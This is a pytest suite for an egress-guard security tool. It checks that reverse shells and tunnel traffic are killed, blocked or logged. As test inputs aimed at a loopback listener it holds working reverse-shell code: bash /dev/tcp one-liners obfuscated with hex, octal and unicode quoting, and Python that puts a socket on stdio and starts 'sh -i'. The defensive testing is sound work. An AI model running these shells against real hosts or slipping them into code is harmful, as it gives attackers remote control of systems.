# SPDX-License-Identifier: Apache-2.0
"""Reverse shells and tunnelling tools end to end: real one-liners and tool
stand-ins in guarded cgroups, a recording listener on loopback.

What is seen, and where:
- exec: netcat/ncat/socat/telnet and the tunnel tools always, shells and
  interpreters whose argv holds /tcp, /udp, sock, Sock or fifo, are stopped
  by the kernel before their first instruction while the policy enforces;
  the agent names the argv, then kills, or resumes with connects refused.
- dup2/dup3 of a connected inet socket onto fd 0-2, whatever the argv
  (report-uploader): the kernel kills at the call, or the agent resets the
  socket.
- first bytes of a flow: a tunnel tool's handshake sent by a program with an
  innocent name; the flow is dropped and its socket reset.
"""
from __future__ import annotations

import json
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest


from .agentproc import GuardedCgroup
from .netclient import parse_report
from .netfixtures import RecordingServer, Spawned, require_tools
from .tunnelstandins import DUP2_INNOCENT_NAME, REVERSE_SHELLS, STANDINS, ReverseShell, Standins

#: What a shell attached to the socket answers: the arithmetic proves it ran.
SHELL_PROBE = b"echo EGMARK$((6*7))\n"
SHELL_ANSWER = b"EGMARK42"
#: The one-liners run with what a sandbox image has on PATH (not a pyenv shim)
#: and a HOME of their own (no ~/.bashrc to slow an interactive shell down).
SHELL_ENV = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LANG": "C.UTF-8"}
SIGKILLED = -signal.SIGKILL
#: Errors a process sees on a socket the guard destroyed (bpf_sock_destroy
#: gives ECONNABORTED; a RST that won the race, ECONNRESET).
RESET_ERRORS = ("ECONNABORTED", "ECONNRESET")


def policy_text(action: str) -> str:
    return f"""apiVersion: egress-guard/v1
kind: EgressPolicy
metadata:
  name: shells-tunnels-{action}
spec:
  defaultAction: allow
  detections:
    reverseShell: {action}
    tunnelTool: {action}
"""


class Guarded(GuardedCgroup):
    """The shells-and-tunnels policy with this action, guarding one cgroup."""

    def __init__(self, tmp: Path, action: str):
        policy = tmp / f"policy-{action}.yaml"
        policy.write_text(policy_text(action))
        # the dup2/dup3 rows are about the hook at the call (opt-in);
        # test_stdio_exec.py covers what the guard sees without it
        super().__init__(policy, "egress-guard-shells", extra=["--syscall-hook"])

    def detection(self, kind: str, predicate, timeout: float = 10) -> dict:
        return self.agent.wait_for(lambda e: e.get("kind") == "detection"
                                   and e["detection"]["type"] == kind and predicate(e),
                                   timeout=timeout)

    def exec_detection(self, pid: int) -> dict:
        """The verdict on pid's argv (not a socket it later put on stdio)."""
        return self.detection("reverse_shell", lambda e: e["process"]["pid"] == pid
                              and e["detection"]["dialect"] != "stdio-socket")

    def mark(self) -> int:
        return len(self.agent.drain())

    def trail(self, mark: int) -> list[tuple]:
        """What the guard saw since mark, short: for assertion messages."""
        return [(e["kind"], e.get("action"), (e.get("detection") or {}).get("dialect"),
                 e["process"]["pid"], e["process"]["ppid"], e["process"]["argv"][:2],
                 (e.get("dst") or {}).get("port"))
                for e in self.agent.drain()[mark:] if e.get("kind") in ("detection", "connect")]

    def detections_since(self, mark: int) -> list[dict]:
        return [e for e in self.agent.drain()[mark:] if e.get("kind") == "detection"]


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    made: dict[str, Guarded] = {}

    def get(action: str) -> Guarded:
        if action not in made:
            made[action] = Guarded(tmp_path_factory.mktemp("shells"), action)
        return made[action]
    yield get
    for guard in made.values():
        guard.close()


@pytest.fixture(scope="module")
def standins():
    with Standins() as made:
        yield made


@pytest.fixture
def spawned():
    with Spawned() as procs:
        yield procs


def of_pid(pid: int):
    return lambda e: e["process"]["pid"] == pid


def to_port(port: int):
    return lambda e: (e.get("dst") or {}).get("port") == port


def exited(proc: subprocess.Popen, timeout: float) -> int | None:
    try:
        return proc.wait(timeout=timeout)
    except subprocess.TimeoutExpired:
        return None


# --------------------------------------------------------------------------
# Reverse-shell one-liners


def start_shell(guard: Guarded, spawned: Spawned, shell, server: RecordingServer,
                tmp_path: Path) -> subprocess.Popen:
    require_tools(*shell.needs)
    argv = shell.format(server.host, server.port, fifo=tmp_path / "f")
    return spawned.adopt(guard.cg.popen(argv, stdin=subprocess.DEVNULL,
                                        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                        cwd=tmp_path, env=dict(SHELL_ENV, HOME=str(tmp_path))))


def offer_probe(shell, server: RecordingServer) -> None:
    """A TCP shell got the probe as its greeting; a UDP one gets it, a byte per
    datagram, once its first datagram (the prompt) came, if one ever does."""
    if shell.udp and server.wait_for_connections(1, timeout=0.3):
        server.send(SHELL_PROBE, per_byte=True)


SHELL_IDS = [shell.name for shell in REVERSE_SHELLS]


@pytest.mark.parametrize("shell", REVERSE_SHELLS, ids=SHELL_IDS)
def test_block_the_listener_never_gets_a_shell(guarded, spawned, shell, tmp_path):
    """Stopped at exec, judged, resumed with its connects refused (README,
    Detections): the listener is never reached, so no shell can answer."""
    guard = guarded("block")
    mark = guard.mark()
    with RecordingServer(udp=shell.udp, greeting=None if shell.udp else SHELL_PROBE) as server:
        proc = start_shell(guard, spawned, shell, server, tmp_path)
        event = guard.exec_detection(proc.pid)
        code = exited(proc, timeout=3)      # its connect failed, so it ends by itself
        offer_probe(shell, server)
        time.sleep(0.3)                     # a shell that did connect would have answered
        received = server.received()
        connections = server.connections
    assert SHELL_ANSWER not in received, (
        f"{shell.name}: reverseShell=block, yet the listener got a working shell: {received!r}; "
        f"the guard saw (kind, action, dialect, pid, ppid, argv, port): {guard.trail(mark)}")
    assert connections == [], (
        f"{shell.name}: reverseShell=block, yet the listener was reached: {connections!r}; "
        f"the guard saw: {guard.trail(mark)}")
    assert code is not None, f"{shell.name}: still running {proc.args}"
    assert event["action"] == "block"
    assert event["detection"]["evidence"]["pattern"] == shell.pattern
    assert event["dst"] is None


@pytest.mark.parametrize("shell", REVERSE_SHELLS, ids=SHELL_IDS)
def test_kill_ends_the_one_liner_before_it_connects(guarded, spawned, shell, tmp_path):
    guard = guarded("kill")
    with RecordingServer(udp=shell.udp, greeting=None if shell.udp else SHELL_PROBE) as server:
        proc = start_shell(guard, spawned, shell, server, tmp_path)
        code = exited(proc, timeout=10)
        event = guard.exec_detection(proc.pid)
        offer_probe(shell, server)
        time.sleep(0.2)
        received = server.received()
        connections = server.connections
    assert code == SIGKILLED, (code, proc.stderr.read())
    assert SHELL_ANSWER not in received and connections == [], connections
    assert event["action"] == "kill"
    assert event["detection"]["evidence"]["pattern"] == shell.pattern


#: The bash one-liner with its /dev/tcp hidden by quoting, as a caller that is
#: not a shell passes it: the argv anchors (quote pairs and quoted windows,
#: guard/detect/vocabulary.py) still stop bash at exec.
QUOTED_DEV_TCP = {
    "ansi-c hex": "bash -i >& $'\\x2fdev\\x2ftcp\\x2f{host}\\x2f{port}' 0>&1",
    "ansi-c octal": "bash -i >& $'\\057dev\\057tcp\\057{host}\\057{port}' 0>&1",
    "ansi-c u": "bash -i >& $'\\u002fdev\\u002ftcp\\u002f{host}\\u002f{port}' 0>&1",
    "locale": 'bash -i >& /dev/$"tcp"/{host}/{port} 0>&1',
    "quotes inside": "bash -i >& /dev/t'c'p/{host}/{port} 0>&1",
}


@pytest.mark.parametrize("name", sorted(QUOTED_DEV_TCP))
def test_kill_ends_a_quoted_one_liner_before_it_connects(guarded, spawned, name, tmp_path):
    shell = ReverseShell(name, ("bash", "-c", QUOTED_DEV_TCP[name]), ("bash",), "dev_tcp_shell")
    guard = guarded("kill")
    with RecordingServer(greeting=SHELL_PROBE) as server:
        # the agent stopped: it cannot win a race with bash, only the kernel's
        # hold at exec keeps bash from connecting (its heartbeat stays fresh)
        guard.agent.proc.send_signal(signal.SIGSTOP)
        try:
            proc = start_shell(guard, spawned, shell, server, tmp_path)
            while_stopped = exited(proc, timeout=0.7)
            reached_while_stopped = server.connections
        finally:
            guard.agent.proc.send_signal(signal.SIGCONT)
        code = exited(proc, timeout=10)
        event = guard.exec_detection(proc.pid)
        time.sleep(0.2)
        received = server.received()
        connections = server.connections
    assert while_stopped is None and reached_while_stopped == [], reached_while_stopped
    assert code == SIGKILLED, (code, proc.stderr.read())
    assert SHELL_ANSWER not in received and connections == [], connections
    assert event["action"] == "kill"
    assert event["detection"]["evidence"]["pattern"] == "dev_tcp_shell"


@pytest.mark.parametrize("shell", REVERSE_SHELLS, ids=SHELL_IDS)
def test_log_the_shell_works_and_the_event_names_the_form(guarded, spawned, shell, tmp_path):
    guard = guarded("log")
    with RecordingServer(udp=shell.udp, greeting=None if shell.udp else SHELL_PROBE) as server:
        proc = start_shell(guard, spawned, shell, server, tmp_path)
        if shell.udp:
            server.wait_for_bytes(1, timeout=10)
            server.send(SHELL_PROBE, per_byte=True)
        server.wait_for(SHELL_ANSWER, timeout=10)
        event = guard.exec_detection(proc.pid)
    assert event["action"] == "log"
    assert event["detection"]["evidence"]["pattern"] == shell.pattern
    assert event["detection"]["confidence"] == "high"
    assert event["process"]["argv"][-1] == proc.args[-1]


# --------------------------------------------------------------------------
# A socket on stdio under an argv that says nothing


def stdio_event(guard: Guarded, pid: int, port: int) -> dict:
    return guard.detection("reverse_shell", lambda e: of_pid(pid)(e) and to_port(port)(e)
                           and e["detection"]["dialect"] == "stdio-socket")


def assert_names_the_socket(event: dict, port: int) -> None:
    evidence = event["detection"]["evidence"]
    assert (evidence["fd"], evidence["stream"]) == (0, "stdin"), evidence
    assert evidence["remote"] == {"ip": "127.0.0.1", "port": port}, evidence
    assert event["dst"] == {"ip": "127.0.0.1", "port": port}
    assert event["process"]["argv"][1].endswith(DUP2_INNOCENT_NAME), event["process"]


def test_kill_a_socket_dup2_onto_stdin_dies_at_the_call(guarded, standins, spawned):
    guard = guarded("kill")
    with RecordingServer(greeting=SHELL_PROBE) as server:
        proc = spawned.adopt(guard.cg.popen(
            standins.innocent_argv(), env=standins.env(server.host, server.port),
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE))
        code = exited(proc, timeout=10)
        event = stdio_event(guard, proc.pid, server.port)
        assert server.wait_for_connections(1)   # the connect itself is innocent
    assert code == SIGKILLED, (code, proc.stderr.read())
    assert event["action"] == "kill"
    assert_names_the_socket(event, server.port)


def test_block_a_socket_dup2_onto_stdin_is_reset(guarded, standins, spawned):
    guard = guarded("block")
    with RecordingServer() as server:
        proc = spawned.adopt(guard.cg.popen(
            standins.innocent_argv(sleep=5), env=standins.env(server.host, server.port),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        event = stdio_event(guard, proc.pid, server.port)
        assert server.wait_for_connections(1)
        # the agent destroyed the socket: the listener's end is gone while the
        # process still sleeps holding its descriptors
        assert server.wait_until_closed(timeout=3), (
            "reverseShell=block: the socket dup'ed onto stdin was not reset, the listener "
            "is still connected 3 s after the stdio-socket detection")
        assert proc.poll() is None
    assert event["action"] == "block"
    assert_names_the_socket(event, server.port)


#: report-uploader's UDP twin: a connected UDP socket on fds 0-2, then `sh -i`.
UDP_ON_STDIO = r"""
import os, socket, sys
conn = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
conn.connect(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""


def test_block_a_udp_socket_dup2_onto_stdin_gives_no_shell(guarded, spawned, tmp_path):
    guard = guarded("block")
    program = tmp_path / "stats-agent.py"
    program.write_text(UDP_ON_STDIO)
    with RecordingServer(udp=True) as server:
        proc = spawned.adopt(guard.cg.popen(["/usr/bin/python3", str(program), str(server.port)],
                                            stdin=subprocess.DEVNULL, cwd=tmp_path,
                                            env=dict(SHELL_ENV, HOME=str(tmp_path))))
        event = stdio_event(guard, proc.pid, server.port)
        server.wait_for_connections(1, timeout=1)      # the prompt, if it got out
        if server.connections:
            server.send(SHELL_PROBE, per_byte=True)
        time.sleep(0.5)
        received = server.received()
    # a UDP socket cannot be reset: block is carried out as kill, and says so
    assert event["action"] == "kill"
    assert proc.wait(timeout=10) == -signal.SIGKILL
    assert SHELL_ANSWER not in received, (
        "reverseShell=block: a connected UDP socket dup'ed onto stdio still carries a working "
        f"shell ({received!r}): it cannot be reset, and send() on it meets no sendmsg hook")


def test_log_a_socket_dup2_onto_stdin_is_reported_and_lives(guarded, standins, spawned):
    guard = guarded("log")
    with RecordingServer() as server:
        proc = spawned.adopt(guard.cg.popen(
            standins.innocent_argv(), env=standins.env(server.host, server.port),
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE))
        code = exited(proc, timeout=10)
        event = stdio_event(guard, proc.pid, server.port)
    assert code == 0, proc.stderr.read()
    assert event["action"] == "log"
    assert_names_the_socket(event, server.port)


# --------------------------------------------------------------------------
# Tunnel tools by exec


@pytest.mark.parametrize("action", ["block", "kill"])
@pytest.mark.parametrize("name", sorted(STANDINS))
def test_an_enforced_tunnel_tool_never_reaches_its_server(guarded, standins, spawned, name,
                                                          action):
    guard = guarded(action)
    standin = STANDINS[name]
    with RecordingServer() as server:
        proc = spawned.adopt(guard.cg.popen(
            standins.argv(name, server.host, server.port),
            env=standins.env(server.host, server.port, hold=0.2),
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
        out, err = proc.communicate(timeout=20)
        event = guard.detection("tunnel_tool", of_pid(proc.pid))
        time.sleep(0.2)
        assert server.connections == []
    if action == "kill":
        assert proc.returncode == SIGKILLED, (proc.returncode, out, err)
    else:
        assert proc.returncode == 0, err
        report = parse_report(out)
        assert (report["tool"], report["connected"], report["error"], report["stage"]) == (
            name, False, "EPERM", "connect"), report
    assert event["action"] == action
    assert event["detection"]["dialect"] == standin.dialect
    assert event["dst"] is None


# --------------------------------------------------------------------------
# Tunnel tools by their traffic

#: Sends a tunnel tool's first bytes, waits up to WAIT seconds for the guard's
#: reset (or any answer), then tries to send more. Prints one JSON line.
HANDSHAKE_CLIENT = r"""
import errno, json, socket, sys
host, port, path, wait = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
report = {"first": False, "reset": None, "later": None}
conn = socket.create_connection((host, port), timeout=5)
conn.sendall(open(path, "rb").read())
report["first"] = True
conn.settimeout(wait)
try:
    report["reset"] = "eof" if not conn.recv(65536) else None
except TimeoutError:
    pass
except OSError as exc:
    report["reset"] = errno.errorcode.get(exc.errno, str(exc.errno))
try:
    conn.sendall(b"AFTER-VERDICT\n")
    report["later"] = "sent"
except OSError as exc:
    report["later"] = errno.errorcode.get(exc.errno, str(exc.errno))
print(json.dumps(report), flush=True)
"""
LATER = b"AFTER-VERDICT\n"


@pytest.fixture(scope="module")
def handshake_client(tmp_path_factory) -> Path:
    """The client under an innocent name (and an argv with no anchor in it)."""
    path = tmp_path_factory.mktemp("client") / "sync-client.py"
    path.write_text(HANDSHAKE_CLIENT)
    return path


def send_first_bytes(guard: Guarded, client: Path, name: str, server: RecordingServer,
                     wait: float) -> tuple[subprocess.CompletedProcess, bytes]:
    standin = STANDINS[name]
    first = standin.first_bytes(standin.usual_args(server.host, server.port))
    payload = client.parent / f"{name}.bin"
    payload.write_bytes(first)
    result = guard.cg.run([sys.executable, str(client), server.host, str(server.port),
                           str(payload), str(wait)], timeout=30, text=True)
    return result, first


@pytest.mark.parametrize("name", sorted(STANDINS))
def test_block_tunnel_traffic_is_reset_after_its_first_payload(guarded, handshake_client,
                                                               name):
    """The guarantee under block: a tunnel handshake is not held (only
    mining-shaped first payloads are), so its first payload, one segment,
    reaches the server while the agent classifies it; the verdict then drops
    every later segment of the flow in the kernel and destroys the socket. The
    server hears exactly that first payload and nothing sent after the
    verdict; the client's next call fails."""
    guard = guarded("block")
    with RecordingServer() as server:
        result, first = send_first_bytes(guard, handshake_client, name, server, wait=3)
        event = guard.detection("tunnel_tool", to_port(server.port))
        time.sleep(0.3)
        received = server.received()
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["first"] and report["reset"] in RESET_ERRORS, report
    assert report["later"] != "sent", report
    assert received == first, (len(received), len(first), received[-40:])
    assert event["action"] == "block"
    assert event["detection"]["dialect"] == STANDINS[name].dialect
    assert event["dst"] == {"ip": "127.0.0.1", "port": server.port, "proto": "tcp"}
    assert event["process"]["argv"][1] == str(handshake_client)


@pytest.mark.parametrize("name", sorted(STANDINS))
def test_kill_tunnel_traffic_ends_the_sender(guarded, handshake_client, name):
    guard = guarded("kill")
    with RecordingServer() as server:
        result, first = send_first_bytes(guard, handshake_client, name, server, wait=3)
        event = guard.detection("tunnel_tool", to_port(server.port))
        time.sleep(0.3)
        received = server.received()
    assert result.returncode == SIGKILLED, (result.returncode, result.stdout, result.stderr)
    assert received == first, received[-40:]
    assert event["action"] == "kill"
    assert event["detection"]["dialect"] == STANDINS[name].dialect


@pytest.mark.parametrize("name", sorted(STANDINS))
def test_log_tunnel_traffic_flows_and_is_reported(guarded, handshake_client, name):
    guard = guarded("log")
    with RecordingServer() as server:
        result, first = send_first_bytes(guard, handshake_client, name, server, wait=0.3)
        event = guard.detection("tunnel_tool", to_port(server.port))
        received = server.wait_for_bytes(len(first) + len(LATER))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == {"first": True, "reset": None, "later": "sent"}
    assert received == first + LATER
    assert event["action"] == "log"
    assert event["detection"]["dialect"] == STANDINS[name].dialect


# --------------------------------------------------------------------------
# Benign programs under reverseShell: kill (and tunnelTool: kill)

TCP_CLIENT = ("import socket, sys\n"
              "conn = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)\n"
              "conn.sendall(b'ping')\n"
              "print(conn.recv(16).decode())\n")
UNIX_PAIR_ON_STDIO = ("import socket, subprocess\n"
                      "mine, theirs = socket.socketpair()\n"
                      "subprocess.run(['true'], stdin=theirs, stdout=theirs, check=True)\n"
                      "print('ok')\n")


def _copy_of_sleep(directory: Path, name: str) -> str:
    path = directory / name
    shutil.copy2(shutil.which("sleep"), path)
    return str(path)


BENIGN = {
    "sshfs-helper": (lambda tmp: [_copy_of_sleep(tmp, "sshfs-helper"), "0.1"], ""),
    "ncdu": (lambda tmp: [_copy_of_sleep(tmp, "ncdu"), "0.1"], ""),
    "netcat-docs": (lambda tmp: [_copy_of_sleep(tmp, "netcat-docs"), "0.1"], ""),
    "bash -c ls": (lambda tmp: ["bash", "-c", f"ls {tmp}"], "marker"),
    "python3 -c print": (lambda tmp: ["python3", "-c", "print(1)"], "1"),
    "unix socketpair on stdio": (lambda tmp: ["python3", "-c", UNIX_PAIR_ON_STDIO], "ok"),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_programs_run_and_are_not_flagged(guarded, name, tmp_path):
    guard = guarded("kill")
    (tmp_path / "marker").touch()
    make_argv, expected = BENIGN[name]
    mark = guard.mark()
    result = guard.cg.run(make_argv(tmp_path), timeout=30, text=True,
                          env=dict(SHELL_ENV, HOME=str(tmp_path)))
    assert result.returncode == 0, (result.returncode, result.stderr)
    assert result.stdout.strip() == expected
    time.sleep(0.3)  # any detection would have been written by now
    assert guard.detections_since(mark) == []


def test_a_plain_tcp_client_exchanges_data_and_is_not_flagged(guarded):
    """Its argv names `socket`, so the kernel stops it at exec: the agent
    finds no shell in it and lets it go on."""
    guard = guarded("kill")
    mark = guard.mark()
    with RecordingServer(reply=b"pong") as server:
        result = guard.cg.run(["python3", "-c", TCP_CLIENT, str(server.port)], timeout=30,
                              text=True, env=SHELL_ENV)
        assert server.wait_for_bytes(4) == b"ping"
    assert (result.returncode, result.stdout.strip()) == (0, "pong"), result.stderr
    time.sleep(0.3)
    assert guard.detections_since(mark) == []


# --------------------------------------------------------------------------
# A reverse tunnel's data connection: the far end speaks first, with a request

#: Connects, waits for the far end's first bytes without sending any, then
#: answers them as a sandbox service would (the relay half of a tunnel client
#: such as localtunnel's, under a name that says nothing).
DATA_CONNECTION = r"""
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
request = s.recv(4096)
print("got", len(request), flush=True)
time.sleep(1.5)                       # the sandbox service answering
s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
time.sleep(3)
"""
REQUEST = b"GET /admin HTTP/1.1\r\nHost: me.own-server.example\r\n\r\n"


@pytest.mark.parametrize("action", ["block", "log"])
def test_a_server_that_sends_a_request_first_is_a_reverse_tunnel(guarded, spawned, action,
                                                                  tmp_path):
    guard = guarded(action)
    program = tmp_path / "relay-helper.py"
    program.write_text(DATA_CONNECTION)
    with RecordingServer(greeting=REQUEST) as server:
        proc = spawned.adopt(guard.cg.popen([sys.executable, str(program), str(server.port)],
                                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL))
        event = guard.detection("tunnel_tool", lambda e: of_pid(proc.pid)(e)
                                and e["detection"]["dialect"] == "reverse-http")
        code = exited(proc, timeout=10)
        received = server.received()
    assert event["detection"]["evidence"]["signal"] == "request_from_server"
    assert event["detection"]["evidence"]["host"] == "me.own-server.example"
    if action == "block":
        # the request reached the sandbox before the verdict: block kills the
        # client, so the service's answer never goes back through the tunnel
        assert event["action"] == "kill" and code == SIGKILLED
        assert b"HTTP/1.1 200" not in received
    else:
        assert event["action"] == "log" and code == 0
        assert b"HTTP/1.1 200 OK" in received
